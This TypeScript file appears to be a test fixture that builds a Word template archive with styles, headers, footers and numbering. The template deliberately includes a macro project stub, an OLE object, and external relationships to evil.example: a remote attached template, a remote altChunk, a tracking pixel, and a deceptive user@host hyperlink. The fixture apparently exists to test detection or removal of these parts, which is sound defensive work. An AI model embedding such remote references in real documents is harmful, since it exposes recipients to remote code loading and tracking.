import { strToU8, zipSync } from 'fflate';

const ooxml = 'http://schemas.openxmlformats.org';
const relationType = `${ooxml}/officeDocument/2006/relationships`;
const namespaces =
  `xmlns:w="${ooxml}/wordprocessingml/2006/main" xmlns:r="${relationType}"` +
  ' xmlns:v="urn:schemas-microsoft-com:vml" xmlns:o="urn:schemas-microsoft-com:office:office"';
const png = Buffer.from(
  'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==',
  'base64',
);

/** Styles of a company, with the ids of a German Word: names are those of every language. */
const styles = [
  [
    'paragraph',
    'Standard',
    'Normal',
    '',
    '<w:rPr><w:sz w:val="21"/><w:lang w:val="de-DE"/></w:rPr>',
  ],
  [
    'paragraph',
    'Titel',
    'Title',
    'Standard',
    '<w:pPr><w:framePr w:w="200"/></w:pPr><w:rPr><w:color w:val="7A0019"/><w:sz w:val="48"/></w:rPr>',
  ],
  [
    'paragraph',
    'berschrift1',
    'heading 1',
    'Standard',
    '<w:pPr><w:pageBreakBefore/></w:pPr><w:rPr><w:b/><w:color w:val="7A0019"/></w:rPr>',
  ],
  ['paragraph', 'berschrift2', 'heading 2', 'Standard', '<w:rPr><w:b/><w:vanish/></w:rPr>'],
  [
    'paragraph',
    'Aufzhlungszeichen',
    'List Bullet',
    'Standard',
    '<w:pPr><w:numPr><w:numId w:val="7"/></w:numPr></w:pPr>',
  ],
  [
    'paragraph',
    'Listennummer',
    'List Number',
    'Standard',
    '<w:pPr><w:numPr><w:numId w:val="8"/></w:numPr></w:pPr>',
  ],
  ['paragraph', 'Kopfzeile', 'header', 'Standard', ''],
  ['character', 'Code', 'Quelltext', '', ''],
  ['character', 'Link', 'Hyperlink', '', '<w:rPr><w:color w:val="7A0019"/></w:rPr>'],
].map(
  ([type, id, name, base, look]) =>
    `<w:style w:type="${type}" w:styleId="${id}"${id === 'Standard' ? ' w:default="1"' : ''}>` +
    `<w:name w:val="${name}"/>${base && `<w:basedOn w:val="${base}"/>`}${look}</w:style>`,
);

/** Further styles, as many as fill ten pages of a style guide. */
const guide = Array.from(
  { length: 300 },
  (_, index) =>
    `<w:style w:type="paragraph" w:customStyle="1" w:styleId="Guide${index}"><w:name w:val="Guide ${index}"/>` +
    `<w:basedOn w:val="Standard"/><w:rPr><w:sz w:val="${16 + (index % 40)}"/></w:rPr></w:style>`,
);

const list = (id: number, format: string, sign: string): string =>
  `<w:abstractNum w:abstractNumId="${id}"><w:multiLevelType w:val="hybridMultilevel"/><w:lvl w:ilvl="0"><w:start w:val="5"/>` +
  `<w:numFmt w:val="${format}"/><w:lvlText w:val="${sign}"/><w:lvlJc w:val="start"/></w:lvl></w:abstractNum>`;

const relationships = (...all: readonly (readonly [string, string, string, boolean?])[]): string =>
  `<Relationships xmlns="${ooxml}/package/2006/relationships">` +
  all
    .map(
      ([id, type, target, isExternal]) =>
        `<Relationship Id="${id}" Type="${type.includes(':') ? type : `${relationType}/${type}`}" Target="${target}"${isExternal ? ' TargetMode="External"' : ''}/>`,
    )
    .join('') +
  '</Relationships>';

const paragraph = (content: string): string => `<w:p>${content}</w:p>`;
const run = (content: string): string => `<w:r>${content}</w:r>`;
const field = (code: string): string =>
  `<w:fldSimple w:instr="${code}">${run('<w:t>1</w:t>')}</w:fldSimple>`;
const picture = (id: string): string =>
  run(
    `<w:pict><v:shape style="width:9pt;height:9pt"><v:imagedata r:id="${id}" o:title="logo"/></v:shape></w:pict>`,
  );

/** What a part of the template is replaced by; `undefined` leaves it out. */
export type TemplateChanges = Readonly<Record<string, string | Uint8Array | undefined>>;

/** A company's template: header with logo, other first page, footer with fields, two sections, macros and remote parts. */
export const companyTemplate = (changes: TemplateChanges = {}): Uint8Array => {
  const parts: Record<string, string | Uint8Array | undefined> = {
    '[Content_Types].xml':
      `<Types xmlns="${ooxml}/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>` +
      '<Default Extension="xml" ContentType="application/xml"/></Types>',
    '_rels/.rels': relationships(['rId1', 'officeDocument', 'word/document.xml']),
    'word/document.xml':
      `<w:document ${namespaces}><w:body>` +
      `<w:p><w:pPr><w:sectPr><w:headerReference w:type="default" r:id="head"/></w:sectPr></w:pPr></w:p>` +
      paragraph(run('<w:t>Text of the template</w:t>')) +
      '<w:sectPr><w:headerReference w:type="first" r:id="first"/><w:footerReference w:type="default" r:id="foot"/>' +
      '<w:pgSz w:w="11000" w:h="15000"/><w:pgMar w:top="1800" w:right="1500" w:bottom="1700" w:left="2100" w:header="700" w:footer="700" w:gutter="0"/>' +
      '<w:cols w:num="2" w:space="500"/><w:titlePg/></w:sectPr></w:body></w:document>',
    'word/_rels/document.xml.rels': relationships(
      ['styles', 'styles', 'styles.xml'],
      ['numbers', 'numbering', 'numbering.xml'],
      ['settings', 'settings', 'settings.xml'],
      ['head', 'header', 'header1.xml'],
      ['first', 'header', 'header2.xml'],
      ['foot', 'footer', '/word/footer1.xml'],
      [
        'macros',
        'http://schemas.microsoft.com/office/2006/relationships/vbaProject',
        'vbaProject.bin',
      ],
      ['chunk', 'aFChunk', 'http://evil.example/chunk.html', true],
    ),
    'word/styles.xml':
      `<w:styles ${namespaces}><w:docDefaults><w:rPrDefault><w:rPr><w:rFonts w:ascii="Arial" w:hAnsi="Arial"/><w:lang w:val="de-DE"/></w:rPr></w:rPrDefault></w:docDefaults>` +
      `${[...styles, ...guide].join('')}</w:styles>`,
    'word/numbering.xml':
      `<w:numbering ${namespaces}>${list(3, 'bullet', '»')}${list(4, 'upperRoman', '%1)')}` +
      '<w:num w:numId="7"><w:abstractNumId w:val="3"/></w:num><w:num w:numId="8"><w:abstractNumId w:val="4"/></w:num></w:numbering>',
    'word/settings.xml': `<w:settings ${namespaces}><w:attachedTemplate r:id="t"/><w:evenAndOddHeaders/></w:settings>`,
    'word/_rels/settings.xml.rels': relationships([
      't',
      'attachedTemplate',
      'http://evil.example/t.dotm',
      true,
    ]),
    'word/header1.xml': `<w:hdr ${namespaces}>${paragraph(run('<w:t>Acme Ltd</w:t>') + picture('logo'))}</w:hdr>`,
    'word/_rels/header1.xml.rels': relationships(['logo', 'image', 'media/logo.png']),
    'word/header2.xml':
      `<w:hdr ${namespaces}>${paragraph(run('<w:t>First page</w:t>') + picture('far'))}` +
      `${paragraph(run('<w:object><o:OLEObject r:id="ole"/></w:object>'))}<w:altChunk r:id="chunk"/></w:hdr>`,
    'word/_rels/header2.xml.rels': relationships(
      ['far', 'image', 'http://evil.example/pixel.png', true],
      ['ole', 'oleObject', 'embeddings/ole.bin'],
    ),
    'word/footer1.xml': `<w:ftr ${namespaces}>${paragraph(field('PAGE') + `<w:hyperlink r:id="web">${run('<w:t>acme.example</w:t>')}</w:hyperlink>`)}</w:ftr>`,
    'word/_rels/footer1.xml.rels': relationships(
      ['web', 'hyperlink', 'https://acme.example', true],
      ['account', 'hyperlink', 'https://acme.example@evil.example', true],
    ),
    'word/media/logo.png': png,
    'word/vbaProject.bin': 'macros',
    'word/embeddings/ole.bin': 'object',
    ...changes,
  };
  return zipSync(
    Object.fromEntries(
      Object.entries(parts).flatMap(([path, part]) =>
        part === undefined ? [] : [[path, typeof part === 'string' ? strToU8(part) : part]],
      ),
    ),
  );
};

/** A part of a header with some content. */
export const headerPart = (content: string): string => `<w:hdr ${namespaces}>${content}</w:hdr>`;
